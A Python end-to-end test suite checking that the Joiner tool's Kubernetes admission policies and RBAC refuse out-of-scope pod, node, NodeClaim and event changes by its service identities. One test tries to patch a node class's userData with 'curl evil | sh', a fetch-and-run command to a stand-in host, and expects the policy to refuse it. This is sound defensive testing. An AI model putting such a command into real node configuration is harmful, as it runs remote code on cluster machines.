"""The admission policies on Joiner's identities, each group with its own token, against a real API server.

A forbidden request is refused with the policy's message, although RBAC allows it.
"""

import json
import time
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from functools import partial
from typing import Any

import pytest
import yaml
from botocore.credentials import Credentials

from joiner.adapters.tokens import sign
from joiner.names import BINDERS, DRAINERS, EVENT_WRITERS, RECORDERS, VIEWERS
from joiner_local.aws.local_aws import REGION
from joiner_local.control_plane.kube_api import ApiError, KubeApi, Object
from joiner_local.stack.stack_control import REPOSITORY, LocalStack

pytestmark = pytest.mark.e2e

NODES = "/api/v1/nodes"
PODS = "/api/v1/namespaces/default/pods"
CLAIMS = "/apis/karpenter.sh/v1/nodeclaims"
EVENTS = "/apis/events.k8s.io/v1/namespaces/default/events"
SEEN = 0.5  # seconds: policies see nodes and pods through the API server's cache
MERGE = "application/merge-patch+json"
ADMISSION = "/apis/admissionregistration.k8s.io/v1"
POOL = {"karpenter.sh/nodepool": "default"}
FILLING = {"key": "joiner.dev/filling", "effect": "NoSchedule"}
DISRUPTED = {"key": "karpenter.sh/disrupted", "effect": "NoSchedule"}
PLACED = {"joiner.dev/placed": "true"}
LEAVING = {"joiner.dev/disrupted": "true"}


def fresh(name: str) -> str:
    return f"{name}-{uuid.uuid4().hex[:8]}"


@dataclass(frozen=True)
class Cluster:
    """The API server as its administrator, and as members of our groups."""

    admin: KubeApi
    member: Callable[..., KubeApi]

    def node(self, *taints: Object, labels: dict[str, str] | None = None, **metadata: Any) -> str:
        name = fresh("node")
        meta = {"name": name, "labels": POOL if labels is None else labels, **metadata}
        self.admin.create(
            NODES,
            {
                "apiVersion": "v1",
                "kind": "Node",
                "metadata": meta,
                "spec": {"providerID": name, "taints": list(taints)},
            },
        )
        time.sleep(SEEN)
        return name

    def pod(self, node: str = "") -> str:
        name = fresh("pod")
        spec = {
            "schedulerName": "nobody",
            "containers": [{"name": "main", "image": "pause"}],
            "terminationGracePeriodSeconds": 0,
        }
        tolerations = [{"operator": "Exists"}]
        spec |= {"tolerations": tolerations} | ({"nodeName": node} if node else {})
        self.admin.create(PODS, {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name}, "spec": spec})
        time.sleep(SEEN)
        return name

    def claim(self, *, labels: dict[str, str] | None = None) -> Object:
        reference = {"group": "karpenter.k8s.aws", "kind": "EC2NodeClass", "name": "default"}
        requirements = [{"key": "kubernetes.io/os", "operator": "In", "values": ["linux"]}]
        metadata = {
            "name": fresh("claim"),
            "labels": POOL if labels is None else labels,
            "finalizers": ["karpenter.sh/termination"],
        }
        spec = {"nodeClassRef": reference, "requirements": requirements}
        return {"apiVersion": "karpenter.sh/v1", "kind": "NodeClaim", "metadata": metadata, "spec": spec}


def documents(folder: str) -> list[Object]:
    paths = sorted((REPOSITORY / "manifests" / folder).glob("*.yaml"))
    return [document for path in paths for document in yaml.safe_load_all(path.read_text())]


@pytest.fixture(scope="module")
def cluster(bare_stack: LocalStack, kube: KubeApi, aws: Callable[[str], Any]) -> Iterator[Cluster]:
    """With all that the installer installs but its webhook."""
    for folder in ("crds", "policies", "rbac"):
        kube.apply_manifests(documents(folder))
    trust = {"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}
    members: dict[tuple[str, ...], KubeApi] = {}
    principals = []

    def member(*groups: str) -> KubeApi:
        if groups not in members:
            policy = json.dumps({"Version": "2012-10-17", "Statement": [trust]})
            role = aws("iam").create_role(RoleName=fresh("member"), AssumeRolePolicyDocument=policy)["Role"]["Arn"]
            aws("eks").create_access_entry(
                clusterName=bare_stack.cluster, principalArn=role, kubernetesGroups=list(groups)
            )
            principals.append(role)
            given = aws("sts").assume_role(RoleArn=role, RoleSessionName="member")["Credentials"]
            credentials = Credentials(given["AccessKeyId"], given["SecretAccessKey"], given["SessionToken"])
            members[groups] = KubeApi(bare_stack.endpoint, token=sign(bare_stack.cluster, REGION, credentials))
        return members[groups]

    made = Cluster(kube, member)
    _await_policies(made)
    yield made
    for path in (PODS, CLAIMS, NODES):  # nodes without a kubelet and pods on them would be found by every later test
        for left in kube.get(path)["items"]:
            if left["metadata"]["name"].startswith(("pod-", "claim-", "node-")):
                _remove(kube, f"{path}/{left['metadata']['name']}")
    for principal in principals:
        aws("eks").delete_access_entry(clusterName=bare_stack.cluster, principalArn=principal)


def _remove(kube: KubeApi, path: str) -> None:
    try:
        kube.call("DELETE", path, {"apiVersion": "v1", "kind": "DeleteOptions", "gracePeriodSeconds": 0})
        kube.call("PATCH", path, {"metadata": {"finalizers": None}}, content_type=MERGE)
    except ApiError as gone:
        if gone.status != 404:
            raise


def _await_policies(cluster: Cluster) -> None:
    """A policy is enforced a moment after it was written; the last one that was written is the one on pods."""
    node, end = cluster.node(labels={}), time.monotonic() + 30
    attempts: tuple[Callable[[], object], ...] = (
        lambda: taint(cluster.member(VIEWERS, BINDERS), node, DISRUPTED),
        lambda: bind(cluster.member(VIEWERS, BINDERS), cluster.pod(), node),
        lambda: evict(cluster.member(VIEWERS, DRAINERS), cluster.pod(node), node),
        lambda: cluster.member(VIEWERS, DRAINERS).call(
            "PATCH", f"{PODS}/{cluster.pod(node)}", {"metadata": {"labels": LEAVING}}, content_type=MERGE
        ),
        lambda: cluster.member(VIEWERS, EVENT_WRITERS).call("POST", EVENTS, event("stranger")),
        lambda: cluster.member(VIEWERS, RECORDERS).call("POST", CLAIMS, cluster.claim(labels={})),
    )
    for attempt in attempts:
        while True:
            try:
                attempt()
            except ApiError as refused:
                if "ValidatingAdmissionPolicy" in str(refused):
                    break
                raise
            assert time.monotonic() < end, "a policy is not enforced after 30 s"
            time.sleep(0.3)


def refused(said: str, act: Callable[[], object]) -> None:
    """By a policy of ours, with these words; not by RBAC, which would hide what the policy does."""
    with pytest.raises(ApiError) as error:
        act()
    assert error.value.status == 403, error.value
    assert "ValidatingAdmissionPolicy 'joiner-" in str(error.value), error.value
    assert said in str(error.value), error.value


def taint(api: KubeApi, node: str, *taints: Object, **spec: Any) -> Object:
    return api.call("PATCH", f"{NODES}/{node}", {"spec": {"taints": list(taints), **spec}}, content_type=MERGE)


def bind(api: KubeApi, pod: str, node: str, **metadata: Any) -> Object:
    meta = {"name": pod, "labels": PLACED} | metadata
    return api.call(
        "POST",
        f"{PODS}/{pod}/binding",
        {"apiVersion": "v1", "kind": "Binding", "metadata": meta, "target": {"kind": "Node", "name": node}},
    )


def evict(api: KubeApi, pod: str, node: str, **metadata: Any) -> Object:
    meta = {"name": pod, "labels": LEAVING, "annotations": {"joiner.dev/node": node}} | metadata
    return api.call("POST", f"{PODS}/{pod}/eviction", {"apiVersion": "policy/v1", "kind": "Eviction", "metadata": meta})


def delete_pod(api: KubeApi, pod: str) -> None:
    api.call("PATCH", f"{PODS}/{pod}", {"metadata": {"labels": LEAVING}}, content_type=MERGE)
    api.call("DELETE", f"{PODS}/{pod}")


@contextmanager
def mutated(admin: KubeApi, pod: str) -> Iterator[None]:
    """While mutating admission adds a label and an annotation in each update of this pod by a drainer, and in each dry
    run.
    """
    name = fresh("mutating")
    patch = (
        "Object{metadata: Object.metadata{labels: {'added': 'by-admission'}, annotations: {'added': 'by-admission'}}}"
    )
    rule = {"apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"], "operations": ["UPDATE"]}
    by_drainers = f"request.userInfo.?groups.orValue([]).exists(group, group == '{DRAINERS}')"
    conditions = [
        {"name": "its", "expression": f"request.name == '{pod}' && ({by_drainers} || request.?dryRun.orValue(false))"}
    ]
    spec = {"matchConstraints": {"resourceRules": [rule]}, "matchConditions": conditions, "reinvocationPolicy": "Never"}
    spec |= {"mutations": [{"patchType": "ApplyConfiguration", "applyConfiguration": {"expression": patch}}]}
    meta = {"apiVersion": ADMISSION.removeprefix("/apis/"), "metadata": {"name": name}}
    policies, bindings = f"{ADMISSION}/mutatingadmissionpolicies", f"{ADMISSION}/mutatingadmissionpolicybindings"
    admin.create(policies, {**meta, "kind": "MutatingAdmissionPolicy", "spec": spec})
    admin.create(bindings, {**meta, "kind": "MutatingAdmissionPolicyBinding", "spec": {"policyName": name}})
    try:
        end, tried = time.monotonic() + 30, {"metadata": {"labels": {"any": "label"}}}
        while (
            "added"
            not in admin.call("PATCH", f"{PODS}/{pod}?dryRun=All", tried, content_type=MERGE)["metadata"]["labels"]
        ):
            assert time.monotonic() < end, "the mutating policy has no effect after 30 s"
            time.sleep(0.3)
        yield
    finally:
        admin.call("DELETE", f"{bindings}/{name}")
        admin.call("DELETE", f"{policies}/{name}")


def event(controller: str) -> Object:
    about = {"apiVersion": "v1", "kind": "Node", "name": "any"}
    said = {"reason": "Tested", "action": "Test", "note": "a test", "type": "Normal", "regarding": about}
    meta = {"name": fresh("event"), "namespace": "default"}
    who = {"reportingController": controller, "reportingInstance": "test", "eventTime": "2026-11-21T05:17:28.123456Z"}
    return {"apiVersion": "events.k8s.io/v1", "kind": "Event", "metadata": meta, **said, **who}


def test_a_pod_is_bound_only_to_a_joiner_node_with_the_filling_taint(cluster: Cluster) -> None:
    binder = cluster.member(VIEWERS, BINDERS)
    bind(binder, cluster.pod(), cluster.node(FILLING))

    said = "Joiner binds only to its own nodes while they have the taint joiner.dev/filling"
    refused(said, lambda: bind(binder, cluster.pod(), cluster.node()))  # ours, open
    refused(said, lambda: bind(binder, cluster.pod(), cluster.node(DISRUPTED)))
    refused(said, lambda: bind(binder, cluster.pod(), cluster.node(labels={})))  # a stranger
    refused(
        said, lambda: bind(binder, cluster.pod(), cluster.node(FILLING, labels={}))
    )  # a stranger that looks like ours


def test_a_binding_cannot_bypass_the_node_check_or_change_the_pod(cluster: Cluster) -> None:
    binder, filling, foreign = cluster.member(VIEWERS, BINDERS), cluster.node(FILLING), cluster.node(labels={})

    refused("must have the label joiner.dev/placed=true", lambda: bind(binder, cluster.pod(), foreign, labels={}))
    refused("and no other of its own", lambda: bind(binder, cluster.pod(), filling, labels={**PLACED, "app": "victim"}))
    refused("must have no annotations", lambda: bind(binder, cluster.pod(), filling, annotations={"any": "thing"}))


def test_other_identities_bind_without_restrictions(cluster: Cluster) -> None:
    bind(cluster.admin, cluster.pod(), cluster.node(labels={}), labels={})


def test_a_pod_is_evicted_only_from_a_joiner_node_with_the_disrupted_taint(cluster: Cluster) -> None:
    drainer = cluster.member(VIEWERS, DRAINERS)
    leaving = cluster.node(DISRUPTED)
    evict(drainer, cluster.pod(leaving), leaving)

    said = "Joiner evicts only from its own nodes while they have the taint karpenter.sh/disrupted"
    for node in (cluster.node(), cluster.node(FILLING), cluster.node(labels={}), cluster.node(DISRUPTED, labels={})):
        refused(said, partial(evict, drainer, cluster.pod(node), node))


def test_an_eviction_names_its_node(cluster: Cluster) -> None:
    drainer, other = cluster.member(VIEWERS, DRAINERS), cluster.node()

    said = "must have the label joiner.dev/disrupted=true, and its node as annotation joiner.dev/node"
    refused(said, lambda: evict(drainer, cluster.pod(other), other, labels={}))
    refused(said, lambda: evict(drainer, cluster.pod(other), other, annotations={}))


def test_a_pod_is_deleted_only_from_a_joiner_node_with_the_disrupted_taint(cluster: Cluster) -> None:
    drainer = cluster.member(VIEWERS, DRAINERS)
    delete_pod(drainer, cluster.pod(cluster.node(DISRUPTED)))

    said = "Joiner deletes only from its own nodes while they have the taint karpenter.sh/disrupted"
    for node in (cluster.node(), cluster.node(FILLING), cluster.node(labels={}), cluster.node(DISRUPTED, labels={})):
        refused(said, partial(delete_pod, drainer, cluster.pod(node)))
    refused("is on no node", lambda: delete_pod(drainer, cluster.pod()))


def test_a_labelled_pod_is_not_deleted_after_its_node_lost_the_taint(cluster: Cluster) -> None:
    drainer, node = cluster.member(VIEWERS, DRAINERS), cluster.node(DISRUPTED)
    pod = cluster.pod(node)
    drainer.call("PATCH", f"{PODS}/{pod}", {"metadata": {"labels": LEAVING}}, content_type=MERGE)
    taint(drainer, node)  # the retirement is taken back

    def gone() -> None:
        time.sleep(SEEN)
        drainer.call("DELETE", f"{PODS}/{pod}")

    refused("may not be deleted from node", gone)


def test_a_pod_is_not_deleted_without_the_label_or_changed_otherwise(cluster: Cluster) -> None:
    drainer = cluster.member(VIEWERS, DRAINERS)
    pod = cluster.pod(cluster.node(DISRUPTED))

    def patch(**metadata: Any) -> Object:
        return drainer.call("PATCH", f"{PODS}/{pod}", {"metadata": metadata}, content_type=MERGE)

    said = "may not change"
    refused(
        "must have the label joiner.dev/disrupted=true before Joiner deletes it",
        lambda: drainer.call("DELETE", f"{PODS}/{pod}"),
    )
    refused(said, lambda: patch(labels={"app": "victim"}))  # without ours
    refused(said, lambda: patch(labels=LEAVING, finalizers=["example.com/hold"]))
    owner = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "other", "uid": "1"}
    refused(said, lambda: patch(labels=LEAVING, ownerReferences=[owner]))
    cluster.admin.call("PATCH", f"{PODS}/{pod}", {"metadata": {"labels": {"app": "web"}}}, content_type=MERGE)
    refused(said, lambda: patch(labels={**LEAVING, "app": "victim"}))
    refused(said, lambda: patch(labels={**LEAVING, "app": None}))
    more = {
        "metadata": {"labels": LEAVING},
        "spec": {"tolerations": [{"operator": "Exists"}, {"key": "a", "operator": "Exists"}]},
    }
    refused(said, lambda: drainer.call("PATCH", f"{PODS}/{pod}", more, content_type=MERGE))


def test_a_pod_is_deleted_although_mutating_admission_changes_its_metadata(
    cluster: Cluster,
) -> None:
    drainer, pod = cluster.member(VIEWERS, DRAINERS), cluster.pod(cluster.node(DISRUPTED))
    path = f"{PODS}/{pod}"

    with mutated(cluster.admin, pod):
        drainer.call("PATCH", path, {"metadata": {"labels": LEAVING}}, content_type=MERGE)
        changed = cluster.admin.get(path)["metadata"]
        drainer.call("DELETE", path)

    assert changed["labels"] == {**LEAVING, "added": "by-admission"}
    assert changed["annotations"]["added"] == "by-admission"


def test_only_joiner_nodes_are_changed(cluster: Cluster) -> None:
    drainer, foreign = cluster.member(VIEWERS, DRAINERS), cluster.node(labels={})
    taint(drainer, cluster.node(), DISRUPTED)

    refused(f"node {foreign} is not Joiner's", lambda: taint(drainer, foreign, DISRUPTED))
    refused(f"node {foreign} is not Joiner's", lambda: drainer.call("DELETE", f"{NODES}/{foreign}"))
    refused(
        f"node {foreign} is not Joiner's",
        lambda: drainer.call("PATCH", f"{NODES}/{foreign}", {"metadata": {"labels": POOL}}, content_type=MERGE),
    )


def test_a_node_is_deleted_only_with_the_disrupted_taint(cluster: Cluster) -> None:
    drainer = cluster.member(VIEWERS, DRAINERS)
    drainer.call("DELETE", f"{NODES}/{cluster.node(DISRUPTED)}")

    refused("is deleted only when it is being disrupted", lambda: drainer.call("DELETE", f"{NODES}/{cluster.node()}"))


def test_only_the_fields_of_a_node_that_joiner_needs_are_changed(cluster: Cluster) -> None:
    binder = cluster.member(VIEWERS, BINDERS)
    registered = cluster.node(
        FILLING, labels={**POOL, "karpenter.sh/registered": "true"}, finalizers=["karpenter.sh/termination"]
    )
    tainted = cluster.node({"key": "team", "value": "a", "effect": "NoSchedule"})

    taint(binder, registered)  # opened
    refused("changes metadata and taints", lambda: taint(binder, registered, unschedulable=True))
    refused("removes only the taints", lambda: taint(binder, tainted))
    refused("adds only the taint", lambda: taint(binder, registered, {"key": "out", "effect": "NoExecute"}))
    refused(
        "stays in its pool",
        lambda: binder.call(
            "PATCH",
            f"{NODES}/{registered}",
            {"metadata": {"labels": {"karpenter.sh/nodepool": "other"}}},
            content_type=MERGE,
        ),
    )
    refused(
        "keeps its finalizers until it is being disrupted",
        lambda: binder.call("PATCH", f"{NODES}/{registered}", {"metadata": {"finalizers": None}}, content_type=MERGE),
    )


def test_an_unlabelled_node_is_adopted_with_a_claim_unless_it_is_a_node_groups(cluster: Cluster) -> None:
    binder = cluster.member(VIEWERS, BINDERS)
    owner = {
        "apiVersion": "karpenter.sh/v1",
        "kind": "NodeClaim",
        "name": "any",
        "uid": "1",
        "blockOwnerDeletion": True,
    }

    def join(node: str) -> Object:
        return binder.call(
            "PATCH", f"{NODES}/{node}", {"metadata": {"labels": POOL, "ownerReferences": [owner]}}, content_type=MERGE
        )

    join(cluster.node(labels={}))
    managed = cluster.node(labels={"eks.amazonaws.com/nodegroup": "system"})
    refused(f"node {managed} is not Joiner's", lambda: join(managed))


def test_only_node_claims_of_a_pool_are_changed(cluster: Cluster) -> None:
    recorder, foreign, own = cluster.member(VIEWERS, RECORDERS), cluster.claim(labels={}), cluster.claim()
    cluster.admin.create(CLAIMS, foreign)
    recorder.call("POST", CLAIMS, own)
    path, foreign_path = f"{CLAIMS}/{own['metadata']['name']}", f"{CLAIMS}/{foreign['metadata']['name']}"

    recorder.call("PATCH", f"{path}/status", {"status": {"providerID": "aws:///us-east-1a/i-1"}}, content_type=MERGE)
    refused(
        "is not Joiner's",
        lambda: recorder.call("PATCH", f"{foreign_path}/status", {"status": {"nodeName": "x"}}, content_type=MERGE),
    )
    refused("is not Joiner's", lambda: recorder.call("DELETE", foreign_path))
    refused(
        "keeps its finalizers until it is deleted",
        lambda: recorder.call("PATCH", path, {"metadata": {"finalizers": None}}, content_type=MERGE),
    )
    refused(
        "stays in its pool",
        lambda: recorder.call(
            "PATCH", path, {"metadata": {"labels": {"karpenter.sh/nodepool": "other"}}}, content_type=MERGE
        ),
    )
    recorder.call("DELETE", path)
    recorder.call("PATCH", path, {"metadata": {"finalizers": None}}, content_type=MERGE)


def test_a_node_claim_is_created_with_its_finalizer(cluster: Cluster) -> None:
    claim = cluster.claim()
    del claim["metadata"]["finalizers"]

    refused(
        "with the finalizer karpenter.sh/termination",
        lambda: cluster.member(VIEWERS, RECORDERS).call("POST", CLAIMS, claim),
    )


def test_of_a_node_class_only_the_finalizer_is_changed(cluster: Cluster) -> None:
    recorder, path = cluster.member(VIEWERS, RECORDERS), "/apis/karpenter.k8s.aws/v1/ec2nodeclasses"
    terms = {name: [{"tags": {"a": "b"}}] for name in ("subnetSelectorTerms", "securityGroupSelectorTerms")}
    spec = {"amiSelectorTerms": [{"alias": "al2023@latest"}], **terms}
    name = fresh("class")
    made: Object = {
        "apiVersion": "karpenter.k8s.aws/v1",
        "kind": "EC2NodeClass",
        "metadata": {"name": name},
        "spec": spec,
    }
    one = f"{path}/{name}"
    cluster.admin.create(path, made)

    def patch(changes: Object) -> Object:
        return recorder.call("PATCH", one, changes, content_type=MERGE)

    held = patch({"metadata": {"finalizers": ["karpenter.k8s.aws/termination"]}})
    assert held["metadata"]["finalizers"] == ["karpenter.k8s.aws/termination"]
    refused("may not change", lambda: patch({"spec": {"userData": "curl evil | sh"}}))
    refused("may not change", lambda: patch({"metadata": {"labels": {"a": "b"}}}))
    refused("may change", lambda: patch({"metadata": {"finalizers": ["karpenter.k8s.aws/termination", "a.example/b"]}}))
    refused("keeps its finalizer until it is deleted", lambda: patch({"metadata": {"finalizers": None}}))

    cluster.admin.call("DELETE", one)
    patch({"metadata": {"finalizers": None}})
    with pytest.raises(ApiError, match="not found"):
        cluster.admin.get(one)


def test_events_have_joiners_reporting_controller(cluster: Cluster) -> None:
    writer = cluster.member(VIEWERS, EVENT_WRITERS)
    writer.call("POST", EVENTS, event("joiner.dev/joiner"))

    refused(
        "with the reporting controller joiner.dev/joiner",
        lambda: writer.call("POST", EVENTS, event("default-scheduler")),
    )


@pytest.mark.parametrize(
    ("groups", "method", "path"),
    [
        ((VIEWERS, RECORDERS), "POST", f"{PODS}/any/binding"),
        ((VIEWERS, RECORDERS), "PATCH", f"{NODES}/any"),
        ((VIEWERS, BINDERS), "POST", f"{PODS}/any/eviction"),
        ((VIEWERS, BINDERS), "DELETE", f"{NODES}/any"),
        ((VIEWERS, BINDERS), "POST", "/api/v1/namespaces/default/bindings"),
        ((VIEWERS, DRAINERS), "POST", f"{PODS}/any/binding"),
        ((VIEWERS, DRAINERS), "PATCH", f"{PODS}/any/status"),
        ((VIEWERS, DRAINERS), "PUT", f"{NODES}/any"),
        ((VIEWERS, EVENT_WRITERS), "POST", "/api/v1/namespaces/default/events"),
        ((VIEWERS, EVENT_WRITERS), "PATCH", f"{EVENTS}/any"),
        ((VIEWERS,), "POST", EVENTS),
        ((VIEWERS,), "GET", "/api/v1/secrets"),
        (
            (VIEWERS, DRAINERS, BINDERS, RECORDERS),
            "DELETE",
            "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies/joiner-nodes",
        ),
        (
            (VIEWERS, DRAINERS, BINDERS, RECORDERS),
            "PATCH",
            "/apis/rbac.authorization.k8s.io/v1/clusterroles/joiner:binder",
        ),
    ],
)
def test_rbac_refuses_what_a_group_does_not_need(
    cluster: Cluster, groups: tuple[str, ...], method: str, path: str
) -> None:
    body: Object | None = {} if method in ("POST", "PATCH", "PUT") else None
    with pytest.raises(ApiError) as error:
        cluster.member(*groups).call(
            method, path, body, content_type=MERGE if method == "PATCH" else "application/json"
        )
    assert error.value.status == 403, error.value
    assert "ValidatingAdmissionPolicy" not in str(error.value)
